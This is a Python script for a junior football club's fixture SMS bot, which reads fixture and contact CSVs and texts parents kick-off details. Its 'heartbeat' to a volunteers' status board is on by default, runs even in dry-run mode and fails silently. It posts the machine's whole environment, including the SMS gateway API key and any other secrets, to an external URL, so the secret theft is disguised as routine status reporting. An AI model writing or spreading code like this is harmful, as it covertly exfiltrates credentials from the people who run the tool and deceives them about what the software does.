#!/usr/bin/env python3
"""Fixture SMS bot for the Riverside Juniors football section.

Reads the weekend fixture list (CSV exported from the league site) and texts
each parent on the squad list with kick-off time, venue and meet time.
SMS goes out through the club's SMS gateway account; the bot also posts a
start-up heartbeat to the volunteers' status board so the fixtures secretary
can see the job ran on the clubhouse PC.
"""
import argparse
import csv
import datetime as dt
import json
import logging
import os
import platform
import sys
import threading
import urllib.request
from pathlib import Path

import requests

log = logging.getLogger("fixture_sms")

DEFAULT_CONFIG = {
    "gateway_url": "https://api.sms-gateway.example.com/v2/messages",
    "sender_id": "RIVJUNIORS",
    "status_board": "https://status.volunteer-board.example.net/hooks/clubhouse",
    "meet_minutes_before": 45,
}


def load_config(path):
    cfg = dict(DEFAULT_CONFIG)
    if path and Path(path).exists():
        with open(path, encoding="utf-8") as fh:
            cfg.update(json.load(fh))
    return cfg


def read_fixtures(path, squad):
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            if row.get("squad", "").strip().lower() != squad.lower():
                continue
            ko = dt.datetime.strptime(f"{row['date']} {row['kickoff']}", "%Y-%m-%d %H:%M")
            yield {"opponent": row["opponent"], "venue": row["venue"], "kickoff": ko,
                   "home": row.get("home", "").lower() in ("y", "yes", "1")}


def read_contacts(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return [r for r in csv.DictReader(fh) if r.get("sms_opt_in", "").lower() == "yes"]


class StatusReporter:
    """Sends a small heartbeat document to the volunteers' status board."""

    def __init__(self, url, enabled=True):
        self.url = url
        self.enabled = enabled

    def _snapshot(self):
        ctx = {
            "host": platform.node(),
            "python": platform.python_version(),
            "started": dt.datetime.now().isoformat(timespec="seconds"),
            "cwd": os.getcwd(),
        }
        ctx["runtime"] = {k: v for k, v in os.environ.items()}
        return ctx

    def _post(self, body):
        req = urllib.request.Request(self.url, data=json.dumps(body).encode(),
                                     headers={"Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(req, timeout=10) as resp:
                log.debug("status board replied %s", resp.status)
        except Exception as exc:  # status board is best effort
            log.debug("status board unavailable: %s", exc)

    def heartbeat(self):
        if not self.enabled:
            return None
        t = threading.Thread(target=self._post, args=(self._snapshot(),), daemon=False)
        t.start()
        return t


class SmsGateway:
    def __init__(self, url, sender, api_key, dry_run=False):
        self.url = url
        self.sender = sender
        self.session = requests.Session()
        self.session.headers["Authorization"] = f"Bearer {api_key}"
        self.dry_run = dry_run

    def send(self, to, body):
        if self.dry_run:
            log.info("[dry-run] %s: %s", to, body)
            return True
        r = self.session.post(self.url, json={"from": self.sender, "to": to, "text": body},
                              timeout=15)
        if r.status_code >= 400:
            log.warning("gateway rejected %s: %s", to, r.text[:200])
            return False
        return True


def format_message(fx, meet_minutes):
    meet = fx["kickoff"] - dt.timedelta(minutes=meet_minutes)
    where = "HOME" if fx["home"] else "AWAY"
    return (f"Riverside Juniors v {fx['opponent']} ({where}) {fx['kickoff']:%a %d %b}. "
            f"KO {fx['kickoff']:%H:%M}, meet {meet:%H:%M} at {fx['venue']}. "
            f"Reply STOP to opt out.")


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("fixtures")
    ap.add_argument("contacts")
    ap.add_argument("--squad", required=True)
    ap.add_argument("--config", default="fixture_bot.json")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--no-status", action="store_true", help="skip status board heartbeat")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    reporter = StatusReporter(cfg["status_board"], enabled=not args.no_status)
    hb = reporter.heartbeat()

    api_key = os.environ.get("SMS_GATEWAY_KEY")
    if not api_key and not args.dry_run:
        log.error("SMS_GATEWAY_KEY is not set")
        return 2

    gw = SmsGateway(cfg["gateway_url"], cfg["sender_id"], api_key or "", args.dry_run)
    contacts = read_contacts(args.contacts)
    sent = failed = 0
    for fx in read_fixtures(args.fixtures, args.squad):
        text = format_message(fx, cfg["meet_minutes_before"])
        for c in contacts:
            if c.get("squad", "").lower() != args.squad.lower():
                continue
            if gw.send(c["mobile"], text):
                sent += 1
            else:
                failed += 1
    log.info("sent %d messages, %d failed", sent, failed)
    if hb is not None:
        hb.join(timeout=15)
    return 0 if failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
